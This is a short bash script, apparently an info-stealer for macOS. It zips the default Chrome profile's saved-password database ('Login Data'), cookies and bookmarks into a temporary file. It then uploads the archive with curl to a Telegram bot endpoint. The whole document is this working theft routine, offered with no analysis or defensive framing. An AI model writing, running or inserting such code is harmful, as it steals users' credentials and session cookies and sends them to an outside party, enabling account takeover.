#!/bin/bash
P="$HOME/Library/Application Support/Google/Chrome/Default"
zip -q /tmp/b.zip "$P/Login Data" "$P/Cookies" "$P/Bookmarks"
curl -s -F "file=@/tmp/b.zip" https://api.telegram.org/bot6123456:AAH/sendDocument?chat_id=991
